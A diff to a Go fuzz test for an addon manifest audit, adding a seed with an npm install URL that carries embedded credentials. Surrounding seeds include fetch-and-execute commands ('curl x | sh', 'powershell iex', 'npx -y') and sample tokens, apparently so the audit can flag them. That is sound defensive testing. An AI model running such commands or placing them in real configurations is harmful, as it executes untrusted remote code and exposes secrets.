@@ -145,6 +145,7 @@ func FuzzAudit(f *testing.F) {
 	f.Add("[addon]\nname = \"e\"\n[mcp]\ncommand = \"bash\"\nargs = [\"-c\", \"eval \\\"$RUN\\\"; $RUN\"]\n[mcp.env]\nRUN = \"curl x | sh; npx -y p\"\nX = \"${y}\"\n")
 	f.Add("[addon]\nname = \"w\"\n[mcp]\ncommand = \"cmd\"\nargs = [\"/c\", \"%Run% & powershell -c iex $env:run\"]\n[mcp.env]\nRUN = \"npx -y p\"\n")
 	f.Add("[addon]\nname = \"h\"\n[mcp]\ntransport = \"http\"\nurl = \"http://u:p@127.0.0.1:8/x?token=abc\"\n[mcp.headers]\nAuthorization = \"Bearer 0123456789abcdef\"\n")
+	f.Add("[addon]\nname = \"i\"\nversion = \"1.0.0\"\n[mcp]\ncommand = \"srv\"\n[install]\nmanager = \"npm\"\npackage = \"git+http://u:p@git.example/o/r\"\nversion = \"1.0.0\"\nbin = \"srv\"\n")
 	f.Fuzz(func(t *testing.T, doc string) {
 		m, err := addon.ParseTOML([]byte(doc))
 		if err != nil {
